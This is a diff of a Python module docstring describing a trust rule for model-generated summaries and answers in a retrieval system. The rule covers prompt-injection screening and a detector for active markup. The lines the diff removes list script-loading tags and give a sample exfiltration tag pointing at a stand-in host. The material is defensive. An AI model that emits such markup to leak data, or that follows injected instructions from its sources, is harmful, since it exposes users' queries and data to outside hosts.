@@ -1,23 +1,17 @@
 """The trust of a derived or generated text (RCP §7.7.2, §15.2): one rule for all of them.
 
 A tree summary, a node's description, a community report and its title, a ``global`` or
-``drift`` answer, a rewritten query: each is made from sources (chunks, reports, the
-caller's question), often by a model that read them. Such a text
-
-* claims no more trust than the **least trusted of its sources** (``level``), and
-* is ``injectionSuspected`` when **any source was suspected**, or when the **text itself**
-  screens positive: the injection screen (:mod:`.screen`), or **markup** a model has no reason
-  to write into a summary (:func:`markup_signals`: HTML tags that load or run something
-  — ``<img``, ``<script``, ``<iframe``, ``<svg``, ``<object`` …, event-handler attributes,
-  ``javascript:``/``vbscript:``/``data:text/html`` links, remote markdown images). A model
-  that writes ``<img src=https://x/?q=…>`` was steered by what it read (or is exfiltrating
-  through whoever renders it).
+``drift`` answer, a rewritten query: each is made from sources, often by a model that read
+them. Such a text claims no more trust than the **least trusted of its sources**
+(``level``), and is ``injectionSuspected`` when **any source was suspected**, or when the
+**text itself** screens positive: the injection screen (:mod:`.screen`), or markup a model
+has no reason to write into a summary (:func:`markup_signals`: tags that load or run
+something, event handlers, ``javascript:`` links, remote markdown images).
 
 :func:`derived_trust` is that rule; :func:`screen_derived` the screening of one text;
-:func:`strip_markup` takes the active markup out of *generated* text (model output: tree
-summaries, answers, rewritten queries), which is then also ``sanitized``. Extractive text
-(quoted source sentences) is only screened, never rewritten: its spans point into the
-sources.
+:func:`strip_markup` takes the active markup out of *generated* text (model output), which is
+then also ``sanitized``. Extractive text (quoted source sentences) is only screened, never
+rewritten: its spans point into the sources.
 """
 
 from __future__ import annotations
